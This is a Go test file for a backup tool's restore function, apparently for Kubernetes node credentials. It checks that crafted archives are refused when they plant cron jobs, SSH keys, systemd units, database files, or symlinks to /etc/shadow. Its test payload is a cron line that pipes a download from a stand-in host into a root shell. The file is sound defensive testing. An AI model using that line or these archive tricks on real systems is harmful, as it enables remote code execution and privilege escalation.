package backup

import (
	"archive/tar"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

var sqliteBytes = append([]byte("SQLite format 3\x00"), make([]byte, 84)...)

func linkEntry(p, target string) Entry { return Entry{Path: p, Type: TypeSymlink, Target: target} }

func linkMember(p, target string) member {
	return member{hdr: tar.Header{Name: strings.TrimPrefix(p, "/"), Typeflag: tar.TypeSymlink, Linkname: target}}
}

func regMember(p string, data []byte) member {
	return member{hdr: tar.Header{Name: strings.TrimPrefix(p, "/"), Typeflag: tar.TypeReg, Mode: 0o600}, data: data}
}

func dirEntry(p string, mode Mode) Entry { return Entry{Path: p, Type: TypeDir, Mode: mode} }

func dirMember(p string) member {
	return member{hdr: tar.Header{Name: strings.TrimPrefix(p, "/") + "/", Typeflag: tar.TypeDir, Mode: 0o755}}
}

// TestRestoreRefusesWhatBackupsAreNotMadeOf: archives that are intact (they
// verify) but hold what no backup of this node is made of. Each also holds a
// credential that differs from the node's, so "nothing written" means the
// good entry was held back too. The node tree is hashed whole, before and
// after, with a directory outside the root.
func TestRestoreRefusesWhatBackupsAreNotMadeOf(t *testing.T) {
	evil := []byte("* * * * * root curl evil | sh\n")
	good := []byte("a credential that differs from the node's")
	tests := []struct {
		name    string
		entries []Entry
		members []member
		refused string // the entry refused
		reason  string
	}{
		{"a cron job", []Entry{fileEntry("/etc/cron.d/certrescue", evil)},
			[]member{regMember("/etc/cron.d/certrescue", evil)}, "/etc/cron.d/certrescue", RefuseOutside},
		{"root's authorized_keys", []Entry{fileEntry("/root/.ssh/authorized_keys", evil)},
			[]member{regMember("/root/.ssh/authorized_keys", evil)}, "/root/.ssh/authorized_keys", RefuseOutside},
		{"a systemd unit", []Entry{fileEntry("/etc/systemd/system/kube-apiserver.service", evil)},
			[]member{regMember("/etc/systemd/system/kube-apiserver.service", evil)}, "/etc/systemd/system/kube-apiserver.service", RefuseOutside},
		{"a file beside the credentials that no default path or inventory names", []Entry{fileEntry("/etc/kubernetes/not-a-conf.txt", evil)},
			[]member{regMember("/etc/kubernetes/not-a-conf.txt", evil)}, "/etc/kubernetes/not-a-conf.txt", RefuseOutside},
		{"a file that only looks like a kubeconfig glob match one level down", []Entry{fileEntry("/etc/kubernetes/x/admin.conf", evil)},
			[]member{regMember("/etc/kubernetes/x/admin.conf", evil)}, "/etc/kubernetes/x/admin.conf", RefuseOutside},
		{"a directory entry that would chmod /etc", []Entry{dirEntry("/etc", 0o777)},
			[]member{dirMember("/etc")}, "/etc", RefuseOutside},
		{"a directory entry that would chmod /etc/kubernetes", []Entry{dirEntry("/etc/kubernetes", 0o777)},
			[]member{dirMember("/etc/kubernetes")}, "/etc/kubernetes", RefuseOutside},
		{"the audit store", []Entry{fileEntry("/var/lib/certrescue/audit.db", sqliteBytes)},
			[]member{regMember("/var/lib/certrescue/audit.db", sqliteBytes)}, "/var/lib/certrescue/audit.db", RefuseState},
		{"the audit store's write-ahead log", []Entry{fileEntry("/var/lib/certrescue/audit.db-wal", evil)},
			[]member{regMember("/var/lib/certrescue/audit.db-wal", evil)}, "/var/lib/certrescue/audit.db-wal", RefuseState},
		{"a transaction journal", []Entry{fileEntry("/var/lib/certrescue/txn/txn-x.json", evil)},
			[]member{regMember("/var/lib/certrescue/txn/txn-x.json", evil)}, "/var/lib/certrescue/txn/txn-x.json", RefuseState},
		{"the rescue lock", []Entry{fileEntry("/var/lib/certrescue/rescue.lock", evil)},
			[]member{regMember("/var/lib/certrescue/rescue.lock", evil)}, "/var/lib/certrescue/rescue.lock", RefuseState},
		{"a backup archive", []Entry{fileEntry("/var/lib/certrescue/backups/certrescue-backup-20990101T000000Z.tar.gz", evil)},
			[]member{regMember("/var/lib/certrescue/backups/certrescue-backup-20990101T000000Z.tar.gz", evil)}, "/var/lib/certrescue/backups/certrescue-backup-20990101T000000Z.tar.gz", RefuseState},
		{"the state directory itself", []Entry{dirEntry("/var/lib/certrescue", 0o777)},
			[]member{dirMember("/var/lib/certrescue")}, "/var/lib/certrescue", RefuseState},
		{"a SQLite database among the credentials", []Entry{fileEntry("/etc/kubernetes/pki/state.db", sqliteBytes)},
			[]member{regMember("/etc/kubernetes/pki/state.db", sqliteBytes)}, "/etc/kubernetes/pki/state.db", RefuseDatabase},
		{"a SQLite database under a credential's name", []Entry{fileEntry("/etc/kubernetes/pki/front-proxy-ca.crt", sqliteBytes)},
			[]member{regMember("/etc/kubernetes/pki/front-proxy-ca.crt", sqliteBytes)}, "/etc/kubernetes/pki/front-proxy-ca.crt", RefuseDatabase},
		{"a database's side file by name", []Entry{fileEntry("/etc/kubernetes/pki/kine.sqlite-shm", evil)},
			[]member{regMember("/etc/kubernetes/pki/kine.sqlite-shm", evil)}, "/etc/kubernetes/pki/kine.sqlite-shm", RefuseDatabase},
		{"a certificate linked to /etc/shadow", []Entry{linkEntry("/etc/kubernetes/pki/apiserver.crt", "/etc/shadow")},
			[]member{linkMember("/etc/kubernetes/pki/apiserver.crt", "/etc/shadow")}, "/etc/kubernetes/pki/apiserver.crt", RefuseSymlink},
		{"a relative link climbing to /etc/shadow", []Entry{linkEntry("/etc/kubernetes/pki/apiserver.crt", "../../shadow")},
			[]member{linkMember("/etc/kubernetes/pki/apiserver.crt", "../../shadow")}, "/etc/kubernetes/pki/apiserver.crt", RefuseSymlink},
		{"a dangling key link a renew would create at a cron path", []Entry{linkEntry("/etc/kubernetes/pki/apiserver.key", "/etc/cron.d/renewed")},
			[]member{linkMember("/etc/kubernetes/pki/apiserver.key", "/etc/cron.d/renewed")}, "/etc/kubernetes/pki/apiserver.key", RefuseSymlink},
		{"a directory link under the pki directory to /etc", []Entry{linkEntry("/etc/kubernetes/pki/etcd2", "/etc")},
			[]member{linkMember("/etc/kubernetes/pki/etcd2", "/etc")}, "/etc/kubernetes/pki/etcd2", RefuseSymlink},
		{"a directory link under the pki directory to its own directory", []Entry{linkEntry("/etc/kubernetes/pki/etcd2", "..")},
			[]member{linkMember("/etc/kubernetes/pki/etcd2", "..")}, "/etc/kubernetes/pki/etcd2", RefuseSymlink},
		{"a directory link to the pki directory itself", []Entry{linkEntry("/etc/kubernetes/pki/etcd2", "/etc/kubernetes/pki")},
			[]member{linkMember("/etc/kubernetes/pki/etcd2", "/etc/kubernetes/pki")}, "/etc/kubernetes/pki/etcd2", RefuseSymlink},
		{"a link into the audit store", []Entry{linkEntry("/etc/kubernetes/pki/apiserver.crt", "/var/lib/certrescue/audit.db")},
			[]member{linkMember("/etc/kubernetes/pki/apiserver.crt", "/var/lib/certrescue/audit.db")}, "/etc/kubernetes/pki/apiserver.crt", RefuseSymlink},
		{"a chain of links whose second hop leaves the credentials", []Entry{
			linkEntry("/etc/kubernetes/pki/apiserver.crt", "/var/lib/kubelet/pki/hop.pem"),
			linkEntry("/var/lib/kubelet/pki/hop.pem", "/etc/shadow")},
			[]member{linkMember("/etc/kubernetes/pki/apiserver.crt", "/var/lib/kubelet/pki/hop.pem"), linkMember("/var/lib/kubelet/pki/hop.pem", "/etc/shadow")},
			"/etc/kubernetes/pki/apiserver.crt", RefuseSymlink},
		{"a link loop", []Entry{linkEntry("/etc/kubernetes/pki/a.crt", "b.crt"), linkEntry("/etc/kubernetes/pki/b.crt", "a.crt")},
			[]member{linkMember("/etc/kubernetes/pki/a.crt", "b.crt"), linkMember("/etc/kubernetes/pki/b.crt", "a.crt")}, "/etc/kubernetes/pki/a.crt", RefuseSymlink},
		{"a link to a credential directory that would make its other files credentials", []Entry{
			linkEntry("/var/lib/kubelet/pki/k", "/etc/kubernetes"), fileEntry("/etc/kubernetes/evil.sh", evil)},
			[]member{linkMember("/var/lib/kubelet/pki/k", "/etc/kubernetes"), regMember("/etc/kubernetes/evil.sh", evil)}, "/etc/kubernetes/evil.sh", RefuseOutside},
		{"a default directory replaced by a link to the directory above it", []Entry{
			linkEntry("/etc/kubernetes/manifests", "/etc/kubernetes"), fileEntry("/etc/kubernetes/evil.sh", evil)},
			[]member{linkMember("/etc/kubernetes/manifests", "/etc/kubernetes"), regMember("/etc/kubernetes/evil.sh", evil)}, "/etc/kubernetes/evil.sh", RefuseOutside},
		{"a file where the node has a symlink", []Entry{fileEntry("/var/lib/kubelet/pki/kubelet-client-current.pem", evil)},
			[]member{regMember("/var/lib/kubelet/pki/kubelet-client-current.pem", evil)}, "/var/lib/kubelet/pki/kubelet-client-current.pem", RefuseType},
		{"a file where the node has a directory", []Entry{fileEntry("/etc/kubernetes/pki/etcd", evil)},
			[]member{regMember("/etc/kubernetes/pki/etcd", evil)}, "/etc/kubernetes/pki/etcd", RefuseType},
		{"a symlink where the node has a directory", []Entry{linkEntry("/etc/kubernetes/manifests", "/etc/kubernetes/pki")},
			[]member{linkMember("/etc/kubernetes/manifests", "/etc/kubernetes/pki")}, "/etc/kubernetes/manifests", RefuseType},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := nodeTree(t)
			outside := t.TempDir()
			os.WriteFile(filepath.Join(outside, "victim"), []byte("untouched"), 0o644)
			os.WriteFile(filepath.Join(root, "etc/shadow"), []byte("root:*:19000:0:99999:7:::\n"), 0o600)
			os.MkdirAll(filepath.Join(root, "var/lib/certrescue/txn"), 0o700)
			os.WriteFile(filepath.Join(root, "var/lib/certrescue/audit.db"), sqliteBytes, 0o600)
			entries := append([]Entry{fileEntry("/etc/kubernetes/pki/ca.crt", good)}, tt.entries...)
			members := append([]member{regMember("/etc/kubernetes/pki/ca.crt", good)}, tt.members...)
			p := craft(t, &Manifest{Version: FormatVersion, Entries: entries}, members)
			if _, err := Verify(p); err != nil {
				t.Fatalf("the archive itself is intact, Verify says %v", err)
			}
			beforeRoot, beforeOutside := snapshot(t, root), snapshot(t, outside)

			_, err := Restore(p, RestoreOptions{Root: root, Undo: &UndoOptions{Dir: filepath.Join(root, DefaultDir), Now: testNow}})
			var re *RefusedError
			if !errors.As(err, &re) || !errors.Is(err, ErrRefused) {
				t.Fatalf("Restore error = %v, want a refusal", err)
			}
			i := slices.IndexFunc(re.Refusals, func(r Refusal) bool { return r.Path == tt.refused })
			if i < 0 || re.Refusals[i].Reason != tt.reason {
				t.Fatalf("refusals %+v, want %s refused for %s", re.Refusals, tt.refused, tt.reason)
			}
			if slices.ContainsFunc(re.Refusals, func(r Refusal) bool { return r.Path == "/etc/kubernetes/pki/ca.crt" }) {
				t.Errorf("the credential was refused too: %+v", re.Refusals)
			}
			if msg := err.Error(); !strings.Contains(msg, tt.refused) || !strings.Contains(msg, "nothing was written") || !strings.Contains(msg, p) {
				t.Errorf("the message does not name the archive, the entry and that nothing was written:\n%s", msg)
			}
			if (tt.reason == RefuseOutside) != slices.Contains(re.Confirmable(), tt.refused) {
				t.Errorf("confirmable %v: only a path outside the credentials can be confirmed with --allow-path", re.Confirmable())
			}
			sameSnapshot(t, "root", snapshot(t, root), beforeRoot)
			sameSnapshot(t, "outside", snapshot(t, outside), beforeOutside)
		})
	}
}

// TestConfirmedPathsAreRestoredAndNamed: what the operator confirms is
// restored and listed; certrescue's state, databases and unsafe symlinks
// stay refused whatever they confirm.
func TestConfirmedPathsAreRestoredAndNamed(t *testing.T) {
	registry := []byte("registry certificate")
	entries := []Entry{fileEntry("/opt/registry/tls.crt", registry), fileEntry("/etc/kubernetes/pki/ca.crt", []byte("ca"))}
	members := []member{regMember("/opt/registry/tls.crt", registry), regMember("/etc/kubernetes/pki/ca.crt", []byte("ca"))}
	for _, how := range []string{"allow-path", "allow-manifest-paths"} {
		t.Run(how, func(t *testing.T) {
			root := nodeTree(t)
			p := craft(t, &Manifest{Version: FormatVersion, Entries: entries}, members)
			creds, err := ScanCredentials(t.Context(), root)
			if err != nil {
				t.Fatal(err)
			}
			o := RestoreOptions{Root: root, Credentials: creds}
			if how == "allow-path" {
				creds.Allow("/opt/registry")
			} else {
				o.AllowManifest = true
			}
			res, err := Restore(p, o)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(res.Allowed, []string{"/opt/registry/tls.crt"}) {
				t.Errorf("allowed %v, want only the confirmed path (ca.crt is a credential)", res.Allowed)
			}
			if b, _ := os.ReadFile(filepath.Join(root, "opt/registry/tls.crt")); string(b) != string(registry) {
				t.Errorf("tls.crt = %q", b)
			}
		})
	}
	for _, tt := range []struct {
		name    string
		entries []Entry
		members []member
		allow   string
	}{
		{"the audit store", []Entry{fileEntry("/var/lib/certrescue/audit.db", sqliteBytes)}, []member{regMember("/var/lib/certrescue/audit.db", sqliteBytes)}, "/var/lib/certrescue"},
		{"a database", []Entry{fileEntry("/opt/app/state.db", sqliteBytes)}, []member{regMember("/opt/app/state.db", sqliteBytes)}, "/opt/app"},
		{"a link into the state directory", []Entry{linkEntry("/opt/app/x.crt", "/var/lib/certrescue/audit.db")}, []member{linkMember("/opt/app/x.crt", "/var/lib/certrescue/audit.db")}, "/opt/app"},
		{"a link to a path the manifest does not list", []Entry{linkEntry("/etc/kubernetes/pki/apiserver.crt", "/etc/shadow")}, []member{linkMember("/etc/kubernetes/pki/apiserver.crt", "/etc/shadow")}, "/etc/kubernetes/pki"},
	} {
		t.Run("still refused: "+tt.name, func(t *testing.T) {
			root := nodeTree(t)
			before := snapshot(t, root)
			p := craft(t, &Manifest{Version: FormatVersion, Entries: tt.entries}, tt.members)
			creds, err := ScanCredentials(t.Context(), root)
			if err != nil {
				t.Fatal(err)
			}
			creds.Allow(tt.allow)
			if _, err := Restore(p, RestoreOptions{Root: root, Credentials: creds, AllowManifest: true}); !errors.Is(err, ErrRefused) {
				t.Fatalf("Restore = %v, want a refusal whatever the flags", err)
			}
			sameSnapshot(t, "root", snapshot(t, root), before)
		})
	}
}

// TestProtectedPathsAreRefused: the backups directory and the audit store
// are refused wherever the caller keeps them.
func TestProtectedPathsAreRefused(t *testing.T) {
	root := nodeTree(t)
	before := snapshot(t, root)
	data := []byte("not an archive")
	p := craft(t, &Manifest{Version: FormatVersion, Entries: []Entry{fileEntry("/etc/kubernetes/pki/backups/x.tar.gz", data)}},
		[]member{regMember("/etc/kubernetes/pki/backups/x.tar.gz", data)})
	_, err := Restore(p, RestoreOptions{Root: root, Protect: []string{"/etc/kubernetes/pki/backups"}})
	var re *RefusedError
	if !errors.As(err, &re) || re.Refusals[0].Reason != RefuseState {
		t.Fatalf("Restore = %v, want the backups directory refused", err)
	}
	sameSnapshot(t, "root", snapshot(t, root), before)
}

// TestBackupsLeaveOutTheStateDirectory: a backup asked for certrescue's
// state lists it as left out, so no archive it writes can restore over it.
func TestBackupsLeaveOutTheStateDirectory(t *testing.T) {
	root := nodeTree(t)
	os.MkdirAll(filepath.Join(root, StateDir), 0o700)
	os.WriteFile(filepath.Join(root, StateDir, "audit.db"), sqliteBytes, 0o600)
	info, err := Create(Options{Root: root, Paths: []string{"/var/lib/certrescue", "/etc/kubernetes/pki"}, Dir: filepath.Join(root, DefaultDir), Now: testNow})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range info.Manifest.Entries {
		if strings.HasPrefix(e.Path, StateDir) {
			t.Errorf("the backup holds %s", e.Path)
		}
	}
	if !slices.Contains(info.Manifest.Skipped, StateDir) {
		t.Errorf("skipped %v, want %s named", info.Manifest.Skipped, StateDir)
	}
}
